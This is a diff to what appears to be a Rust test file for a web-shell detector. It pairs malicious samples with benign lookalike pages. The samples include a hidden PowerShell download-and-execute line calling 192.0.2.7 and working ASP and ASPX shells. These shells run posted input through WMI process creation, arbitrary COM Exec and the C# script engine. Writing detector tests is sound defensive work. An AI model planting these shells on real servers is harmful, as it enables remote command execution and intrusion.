@@ -503,6 +503,21 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<%\nvar p = new Process();\np.StartInfo.FileName = \"powershell.exe\";\np.StartInfo.Arguments = \"-NoP -W Hidden -Exec Bypass -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')\";\np.Start();\n%>\n",
             "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script runat=\"server\">\nprotected void Export_Click(object s, EventArgs e) {\n  var psi = new ProcessStartInfo(Server.MapPath(\"~/bin/wkhtmltopdf.exe\"), \"--quiet report.html report.pdf\");\n  psi.UseShellExecute = false;\n  Process.Start(psi).WaitForExit();\n  // The help page explains: run IEX only from a trusted console, never DownloadString from a page.\n}\n</script>\n",
         ),
+        case(
+            "EXRAY_WMI_Process_Create",
+            "<%\nc = Request.Form(\"c\")\nSet p = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32_Process\")\nr = p.Create(\"cmd /c \" & c & \" > C:\\Windows\\Temp\\o.txt\", Null, Null, pid)\nResponse.Write pid\n%>\n",
+            "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management\" %>\n<script runat=\"server\">\nprotected void Page_Load(object s, EventArgs e) {\n  var scope = new ManagementScope(@\"\\\\.\\root\\cimv2\");\n  var q = new ObjectQuery(\"SELECT Name, WorkingSetSize FROM Win32_Process\");\n  grid.DataSource = new ManagementObjectSearcher(scope, q).Get();\n  grid.DataBind();\n  var w = System.Xml.XmlWriter.Create(Response.Output);\n}\n</script>\n",
+        ),
+        case(
+            "EXRAY_ASP_Object_From_Request",
+            "<%\nSet o = Server.CreateObject(Request(\"o\"))\nResponse.Write o.Exec(Request(\"c\")).StdOut.ReadAll\n%>\n",
+            "<%\nkind = Request(\"kind\")\nIf kind = \"xml\" Then Set o = Server.CreateObject(\"MSXML2.DOMDocument.6.0\") Else Set o = Server.CreateObject(\"Scripting.Dictionary\")\n%>\n",
+        ),
+        case(
+            "EXRAY_NET_Script_Engine_Eval",
+            "<%@ Page Language=\"C#\" Async=\"true\" %>\n<%@ Import Namespace=\"Microsoft.CodeAnalysis.CSharp.Scripting\" %>\n<script runat=\"server\">\nprotected async void Page_Load(object s, EventArgs e) {\n  var r = await CSharpScript.EvaluateAsync(Request.Form[\"q\"]);\n  Response.Write(r);\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n// Calculator page: parses the expression itself, no script engine.\nprotected void Calc_Click(object s, EventArgs e) {\n  var t = new System.Data.DataTable();\n  result.Text = t.Compute(expr.Text.Replace(\"x\", \"*\"), \"\").ToString();\n}\n</script>\n",
+        ),
     ]
 }
 
